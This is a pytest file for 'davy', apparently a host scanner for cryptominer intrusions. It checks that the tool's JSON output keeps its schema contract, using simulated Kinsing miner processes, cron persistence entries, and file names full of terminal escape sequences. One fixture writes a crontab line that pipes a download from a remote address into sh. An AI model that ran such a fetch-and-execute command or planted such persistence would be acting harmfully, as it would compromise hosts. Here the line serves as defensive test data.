"""`davy scan --json` keeps the contract: every key, in its shape, whatever an enemy named things."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from jsonschema import Draft202012Validator
from tests.unit.correlate.stories import host, known, line
from tests.unit.snapshots import module_table, process_table
from tests.unit.snapshots import process as a_process

from davy.correlate import correlate
from davy.detect import detect
from davy.host import at, live
from davy.model.autostarts import Autostart, AutostartKind
from davy.model.concealment import Accounting, Interval, ProcessTable
from davy.model.facts import Exe, Executable, Gap, Host, KnownFile, Load, Process, ProcessDetail
from davy.model.incidents import Door, Judgement, Reason, Verdict
from davy.model.logs import Shows
from davy.model.snapshot import Snapshot
from davy.present.contract import as_json, moment, scan_object, tables_object
from davy.scan import scan

SCHEMA = json.loads((Path(__file__).parents[3] / "docs/schema/scan.json").read_text())
VALIDATOR = Draft202012Validator(SCHEMA)

# The contract of the design's section 4, key by key.  "?" is a value that may be null.
MOMENT = "moment"
DOOR: dict[str, Any] = {
    "service": str, "confidence": float, "time": "moment?", "evidence": [str], "kind": "str?", "address": "str?",
    "bits": float, "reasons": [{"bits": float, "what": str}], "fix": [str],
}  # fmt: skip
CONTRACT: dict[str, Any] = {
    "schema": 1, "davy": str,
    "host": {"name": "str?", "kernel": "str?", "boot_time": "moment?", "cpus": "int?"},
    "taken": MOMENT, "seconds": float, "verdict": str, "complete": bool,
    "incidents": [{
        "id": str, "verdict": str, "confidence": float, "family": "str?", "summary": str,
        "actors": [{
            "role": str, "kind": str, "pid": "int?", "ppid": "int?", "start_time": "moment?", "start_ticks": "int?",
            "user": "str?", "cmdline": "str?", "path": "str?", "files": [str], "line": "int?", "command": "str?",
            "name": str, "detail": str, "kind_of_autostart": "str?", "schedule": "str?", "when": "str?",
            "owner_package": "str?", "first_seen": "moment?", "news": "str?",
            "container": {
                "id": str, "runtime": str, "name": str, "image": "str?", "project": "str?", "pod": "str?", "words": str,
                "uid": "int?", "host_user": "str?", "host_path": "str?",
            },
        }],
        "door": DOOR,
        "timeline": [{"time": MOMENT, "what": str, "source": str}],
        "findings": [{
            "rule": str, "aspect": str, "bits": float, "subject": str, "summary": str, "evidence": [str],
            "technique": "str?",
        }],
        "cost": {"cpu_hours": float},
        "owners": "str?",
        "other_doors": [DOOR],
        "ruled_out": [{"service": str, "reason": str}],
        "keep": [str],
        "advice": [{"works": bool, "what": str, "why": str}],
        "sum": {
            "subject": str, "verdict": str, "bits": float, "proven": bool,
            "aspects": [{"aspect": str, "bits": float, "strongest": float, "further": [float]}],
            "changes": [{"without": [str], "verdict": str}],
            "wanting": [str],
        },
    }],
    "exposures": [{
        "service": str, "address": str, "severity": str, "summary": str, "fix": [str], "id": str, "kind": str,
        "opening": str, "subject": str, "reached_from": str, "container": "str?", "evidence": [str],
        "change": {"path": str, "line": "int?", "before": "str?", "after": str, "restart": str},
        "used": [{
            "time": "moment?", "last_time": "moment?", "count": int, "shows": str, "sign": str, "path": str,
            "text": str, "address": "str?", "user": "str?", "detail": "str?",
        }],
        "cves": [str], "references": [str],
    }],
    "gaps": [{"collector": str, "what": str, "why": str}],
    "views": {"processes": {"seen": int, "hidden": int}, "modules": {"seen": int, "hidden": int}},
    "allowed": [{
        "id": int, "sha256": str, "path": str, "unit": "str?", "user": "str?", "reason": str, "since": MOMENT,
        "by": "str?", "pids": [int], "cost": {"cpu_hours": float}, "cores": float, "differs": [str],
    }],
    "autostarts": {"seen": int, "new": int, "changed": int},
}  # fmt: skip
ON_REQUEST = ("tables", "compared", "entries")
"""Only printed when an option asks for it."""
NULLABLE = ("door", "container", "cost", "sum", "change", "views", "views.processes", "views.modules")

NOW = 1_700_000_000.0
MODULES = module_table(*(f"module{number}" for number in range(90)))
ALL_SEEN = process_table(90)
HERE = Host(name="web1", kernel="6.1.0", boot_time=NOW - 100_000, boot_id="boot", cpus=2)


def program(path: str, mtime: float = NOW - 600) -> Executable:
    return Executable(
        path=path, device=1, inode=abs(hash(path)) % 1000, size=100, mode=0o100755, uid=65534, links=1, mtime=mtime,
        ctime=mtime, birth=mtime, sha256="0" * 64, elf=True,
    )  # fmt: skip


def process(pid: int, path: str, cmdline: tuple[str, ...], *, burning: float = 0.0, ppid: int = 1) -> Process:
    return Process(
        pid=pid, start_ticks=pid * 10, start_time=NOW - 600, name=path.rpartition("/")[2][:15], state="R", ppid=ppid,
        pgrp=pid, session=pid, tty=0, flags=0, nice=0, threads=1, rss_bytes=4096, cpu_seconds=burning * 600,
        children_cpu_seconds=0.0, window_cpu_seconds=burning, uid=65534, user="nobody", cmdline=cmdline,
        exe=Exe(path), cwd="/", cgroup="/system.slice/cron.service",
    )  # fmt: skip


def snapshot(
    processes: Iterable[Process], *, autostarts: tuple[Autostart, ...] = (), files: tuple[KnownFile, ...] = (),
    gaps: tuple[Gap, ...] = (), views: ProcessTable | None = ALL_SEEN,
) -> Snapshot:  # fmt: skip
    rows = tuple(processes)
    return Snapshot(
        host=HERE, taken=NOW, seconds=1.2, live=True, load=Load(window_seconds=1.0, busy_cores=1.0), processes=rows,
        details=tuple(
            ProcessDetail(pid=one.pid, start_ticks=one.start_ticks, executable=program(one.exe.path))
            for one in rows
            if one.exe
        ),
        autostarts=autostarts, known_files=files, process_table=views,
        module_table=MODULES if views else None, gaps=gaps,
    )  # fmt: skip


def kinsing(miner: str = "/tmp/kdevtmpfsi", argument: str = "-c") -> Snapshot:
    command = f"/var/tmp/kinsing; {miner}"
    return snapshot(
        [
            process(10, "/var/tmp/kinsing", ("/var/tmp/kinsing",)),
            process(11, miner, (miner, argument), burning=1.0, ppid=10),
            process(12, "/usr/bin/python3", ("python3", "train.py"), burning=1.0),
        ],
        autostarts=(
            Autostart(
                kind=AutostartKind.CRON, path="/var/spool/cron/crontabs/nobody", line=3, text=f"* * * * * {command}",
                command=command, schedule="* * * * *", user="nobody", programs=("/var/tmp/kinsing", miner),
                mtime=NOW - 700,
            ),
        ),
        files=(KnownFile("/tmp/kdevtmpfsi202", "kinsing", program("/tmp/kdevtmpfsi202")),),
    )  # fmt: skip


def judged(facts: Snapshot) -> Judgement:
    return correlate(facts, detect(facts))


def printed(judgement: Judgement) -> Any:
    """What a reader of standard output gets."""
    return json.loads(as_json(scan_object(judgement)))


def errors(value: Any) -> list[str]:
    return [f"{error.json_path}: {error.message}" for error in VALIDATOR.iter_errors(value)]


def departures(value: Any, contract: Any = CONTRACT, where: str = "") -> Iterator[str]:
    """Where a value has not exactly the contract's keys and types."""
    if isinstance(contract, dict):
        if value is None and where.rpartition("]")[2].lstrip(".") in NULLABLE:
            return
        if not isinstance(value, dict) or list(value) != list(contract):
            yield f"{where}: {list(value) if isinstance(value, dict) else value!r}, not {list(contract)}"
            return
        for key, inner in contract.items():
            yield from departures(value[key], inner, f"{where}.{key}".lstrip("."))
    elif isinstance(contract, list):
        if not isinstance(value, list):
            yield f"{where}: {value!r} is no list"
            return
        for number, one in enumerate(value):
            yield from departures(one, contract[0], f"{where}[{number}]")
    elif isinstance(contract, int):
        if value != contract:
            yield f"{where}: {value!r}, not {contract}"
    else:
        name = contract if isinstance(contract, str) else contract.__name__
        if value is None and name.endswith("?"):
            return
        wanted: Any = {"str": str, "moment": str, "int": int, "float": (int, float), "bool": bool}[name.rstrip("?")]
        if not isinstance(value, wanted) or (isinstance(value, bool) and wanted is not bool):
            yield f"{where}: {value!r} is no {name}"
        elif name.startswith("moment") and not str(value).endswith("Z"):
            yield f"{where}: {value!r} is not in UTC"


def check(judgement: Judgement) -> Any:
    found = printed(judgement)
    assert errors(found) == []
    assert list(departures(found)) == []
    return found


def test_the_schema_itself_is_sound_and_names_every_key_of_the_contract() -> None:
    Draft202012Validator.check_schema(SCHEMA)

    def resolved(part: dict[str, Any]) -> dict[str, Any]:
        reference = part.get("$ref") or next((one["$ref"] for one in part.get("anyOf", ()) if "$ref" in one), None)
        return SCHEMA["$defs"][reference.rpartition("/")[2]] if reference else part

    def compare(part: dict[str, Any], contract: Any, where: str) -> None:
        part = resolved(part)
        if isinstance(contract, dict):
            assert [key for key in part["properties"] if key not in ON_REQUEST] == list(contract), where
            assert sorted(part["required"]) == sorted(contract), where
            for key, inner in contract.items():
                compare(part["properties"][key], inner, f"{where}.{key}")
        elif isinstance(contract, list):
            assert part["type"] == "array", where
            compare(part["items"], contract[0], f"{where}[]")

    compare(SCHEMA, CONTRACT, "")


def test_an_incident_with_all_its_actors() -> None:
    found = check(judged(kinsing()))
    assert (found["verdict"], found["complete"]) == ("confirmed", True)
    (incident,) = found["incidents"]
    assert incident["family"] == "kinsing"
    actors = incident["actors"]
    assert [(one["role"], one["kind"]) for one in actors] == [
        ("miner", "process"), ("guardian", "process"), ("autostart", "autostart"), ("dropper", "file"),
    ]  # fmt: skip
    miner, guardian, autostart, file = actors
    assert (miner["pid"], miner["ppid"], miner["start_ticks"], miner["user"]) == (11, 10, 110, "nobody")
    assert miner["cmdline"] == "/tmp/kdevtmpfsi -c"
    assert (miner["path"], miner["files"]) == ("/tmp/kdevtmpfsi", ["/tmp/kdevtmpfsi"])
    assert guardian["files"] == ["/var/tmp/kinsing"]
    assert (autostart["path"], autostart["line"]) == ("/var/spool/cron/crontabs/nobody", 3)
    assert autostart["command"] == "/var/tmp/kinsing; /tmp/kdevtmpfsi"
    assert (autostart["user"], autostart["files"]) == ("nobody", [])
    assert (file["path"], file["pid"]) == ("/tmp/kdevtmpfsi202", None)
    assert incident["cost"]["cpu_hours"] == pytest.approx(600 / 3600, abs=1e-6)
    assert incident["door"] is None
    assert incident["timeline"] == sorted(incident["timeline"], key=lambda one: one["time"])


def test_a_file_of_a_running_actor_is_no_actor_of_its_own() -> None:
    facts = kinsing()
    lying = (*facts.known_files, KnownFile("/tmp/kdevtmpfsi", "kinsing", program("/tmp/kdevtmpfsi")))
    (incident,) = check(judged(msgspec.structs.replace(facts, known_files=lying)))["incidents"]
    assert [one["path"] for one in incident["actors"] if one["kind"] == "file"] == ["/tmp/kdevtmpfsi202"]


def test_the_tables_that_views_adds_are_in_the_schema_too() -> None:
    account = Accounting(
        cpus=2, intervals=(Interval(seconds=0.5, busy=1.9, owned=0.9, unsure=0.0),) * 2, claimed_busy=0.1
    )  # fmt: skip
    judgement = judged(snapshot([]))
    judgement = msgspec.structs.replace(
        judgement, process_table=process_table(3, hidden=1), module_table=module_table("nf_tables"), accounting=account
    )
    found = scan_object(judgement) | {"tables": tables_object(judgement)}
    assert errors(found) == []
    hidden, *others = found["tables"]["processes"]
    assert (hidden["hidden"], hidden["missing"]) == (True, ["getdents64", "listing"])
    assert [row["hidden"] for row in others] == [False, False]
    assert found["tables"]["modules"][0]["name"] == "nf_tables"
    assert found["tables"]["accounting"] == {
        "cpus": 2, "busy": 1.9, "unowned": 1.0, "claimed_busy": 0.1, "sampled_busy": None,
    }  # fmt: skip
    assert errors(scan_object(judgement) | {"tables": {"processes": []}})


def test_nothing_found() -> None:
    found = check(judged(snapshot([process(12, "/usr/bin/python3", ("python3", "train.py"), burning=1.0)])))
    assert (found["verdict"], found["complete"], found["incidents"]) == ("clean", True, [])
    assert found["views"] == {"processes": {"seen": 90, "hidden": 0}, "modules": {"seen": 90, "hidden": 0}}


def test_nothing_found_where_processes_could_not_be_read_is_not_complete() -> None:
    gaps = (Gap("processes", "executable", "not readable for 80 processes: not permitted"),)
    found = check(judged(snapshot([], gaps=gaps, views=None)))
    assert (found["verdict"], found["complete"]) == ("clean", False)
    assert found["gaps"] == [
        {"collector": "processes", "what": "executable", "why": "not readable for 80 processes: not permitted"}
    ]
    assert found["views"] == {"processes": None, "modules": None}


def test_a_root_has_no_kernel_and_is_never_complete(tmp_path: Path) -> None:
    crontabs = tmp_path / "var/spool/cron/crontabs"
    crontabs.mkdir(parents=True)
    (crontabs / "root").write_text("* * * * * curl -s http://203.0.113.9/unk.sh | sh > /dev/null 2>&1\n")
    found = check(scan(at(str(tmp_path)))[1])
    assert found["host"] == {"name": None, "kernel": None, "boot_time": None, "cpus": None}
    assert found["complete"] is False
    assert found["views"] is None
    assert all(incident["cost"] is None for incident in found["incidents"])


def test_this_very_host() -> None:
    found = check(scan(live(), window_seconds=0.1)[1])
    assert found["host"]["cpus"] >= 1
    assert found["views"]["processes"]["seen"] > 1


def test_a_door() -> None:
    judgement = judged(kinsing())
    door = Door(
        service="redis", confidence=0.8, time=NOW, evidence=("a line of its log",), kind="redis",
        subject="service:redis:9", address="0.0.0.0:6379", bits=7.0, reasons=(Reason(6.0, "it started it"),),
        fix=("bind 127.0.0.1",),
    )  # fmt: skip
    (incident,) = judgement.incidents
    with_door = msgspec.structs.replace(incident, door=door)
    found = check(msgspec.structs.replace(judgement, incidents=(with_door,)))
    assert found["incidents"][0]["door"] == {
        "service": "redis", "confidence": 0.8, "time": moment(NOW), "evidence": ["a line of its log"],
        "kind": "redis", "address": "0.0.0.0:6379", "bits": 7.0,
        "reasons": [{"bits": 6.0, "what": "it started it"}], "fix": ["bind 127.0.0.1"],
    }  # fmt: skip


@pytest.mark.parametrize("hostile", [False, True])
def test_a_door_among_the_actors_with_all_that_is_said_of_it(hostile: bool) -> None:
    name = HOSTILE if hostile else "java"
    java, *gang = (
        a_process(100, "/usr/bin/java", user="nobody", age=86_400, name=name),
        a_process(200, "/var/tmp/kinsing", user="nobody", ppid=100),
        a_process(201, "/tmp/kdevtmpfsi", user="nobody", ppid=200, cores=1.0),
    )
    came = line("flink", "newer", Shows.SUCCESS, text=HOSTILE if hostile else "a line", user=name)
    of = host(java, *gang, services=[known("flink", java), known("redis", port=6379)], hits=[came])
    (incident,) = check(judged(of))["incidents"]
    door = incident["actors"][-1]
    assert (door["role"], door["kind"], door["pid"], door["path"], door["files"]) == ("door", "service", 100, None, [])
    assert incident["door"]["kind"] == "flink"
    assert incident["door"]["reasons"][0]["bits"] > 0
    assert incident["advice"]


HOSTILE = "/tmp/\udcff\udc9b\x1b[2J\x07\n\r[/red]\u202e\u009b31m\u2028\U000e0041\x7fkdevtmpfsi"


def test_whatever_an_enemy_names_things_it_is_json_and_no_terminal_obeys_it() -> None:
    judgement = judged(kinsing(HOSTILE, "\x1b]0;\udcfe\x07\n1. CLEAN"))
    text = as_json(scan_object(judgement))
    check(judgement)
    assert not [character for character in text if ord(character) < 0x20 and character != "\n"]
    assert not set(text) & set("\x7f\u009b\u202e\u2028\U000e0041")
    (incident,) = json.loads(text)["incidents"]
    miner = incident["actors"][0]
    assert miner["path"].startswith("/tmp/\\xff\\x9b")
    assert "\u202e" not in text
    assert all(len(line) == len(line.encode("utf-8", "strict").decode()) for line in text.splitlines())


def test_a_name_that_is_unicode_comes_out_as_it_is() -> None:
    (incident,) = printed(judged(kinsing("/tmp/\u202egnp.\u009b\U000e0041\xe9", "x")))["incidents"]
    assert incident["actors"][0]["path"] == "/tmp/\u202egnp.\u009b\U000e0041\xe9"


@pytest.mark.parametrize("seconds", [-1e30, -1e12, -1.0, 0.0, 1e11, 1e12, 1e17, 1e30])
def test_a_time_that_an_enemy_set_is_a_time(seconds: float) -> None:
    shown = moment(seconds)
    assert shown is not None
    assert errors(printed(judged(kinsing())) | {"taken": shown}) == []


def test_times_are_rfc_3339_in_utc() -> None:
    assert moment(None) is None
    assert moment(0.0) == "1970-01-01T00:00:00.000Z"
    assert moment(NOW + 0.25) == "2023-11-14T22:13:20.250Z"


BROKEN: dict[str, Any] = {
    "an incident that is clean": {"incidents.0.verdict": "clean"},
    "clean with an incident": {"verdict": "clean"},
    "suspect though one is confirmed": {"verdict": "suspect"},
    "a time without a zone": {"taken": "2023-11-14T22:13:20"},
    "no such moment": {"taken": "2023-14-14T22:13:20Z"},
    "complete without views": {"views": None},
    "a schema of another number": {"schema": 2},
    "a role nobody has": {"incidents.0.actors.0.role": "boss"},
    "a process without a pid": {"incidents.0.actors.0.pid": None},
    "an autostart with a pid": {"incidents.0.actors.2.pid": 4},
    "a file without a path": {"incidents.0.actors.3.path": None},
    "too sure": {"incidents.0.confidence": 1.1},
    "an id that evict would not take": {"incidents.0.id": "--yes"},
    "bits in words": {"incidents.0.findings.0.bits": "many"},
    "an unknown aspect": {"incidents.0.findings.0.aspect": "smell"},
    "a technique that is none": {"incidents.0.findings.0.technique": "1496"},
    "a negative cost": {"incidents.0.cost.cpu_hours": -1},
    "hidden by half": {"views.processes.hidden": 0.5},
    "one file for all": {"incidents.0.actors.0.files": "/tmp/kdevtmpfsi"},
}


@pytest.mark.parametrize("broken", BROKEN)
def test_the_schema_refuses(broken: str) -> None:
    value = printed(judged(kinsing()))
    assert errors(value) == []
    for path, wrong in BROKEN[broken].items():
        *way, last = path.split(".")
        here = value
        for part in way:
            here = here[int(part)] if part.isdigit() else here[part]
        assert last in here
        here[last] = wrong
    assert errors(value)


def keys_below(contract: Any, value: Any, way: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    if isinstance(contract, dict) and isinstance(value, dict):
        for key, inner in contract.items():
            yield (*way, key)
            yield from keys_below(inner, value[key], (*way, key))
    elif isinstance(contract, list) and value:
        yield from keys_below(contract[0], value[0], (*way, 0))


@pytest.mark.parametrize(
    "way", list(keys_below(CONTRACT, printed(judged(kinsing())))), ids=lambda way: ".".join(map(str, way))
)
def test_the_schema_misses_every_key_that_is_left_out(way: tuple[str | int, ...]) -> None:
    value = printed(judged(kinsing()))
    here = value
    for part in way[:-1]:
        here = here[part]
    del here[way[-1]]
    assert errors(value)


def test_a_verdict_is_the_gravest_of_its_incidents() -> None:
    judgement = judged(kinsing())
    (incident,) = judgement.incidents
    suspect = msgspec.structs.replace(incident, id="00000000", verdict=Verdict.SUSPECT)
    check(msgspec.structs.replace(judgement, incidents=(incident, suspect)))
    check(msgspec.structs.replace(judgement, incidents=(suspect,), verdict=Verdict.SUSPECT))
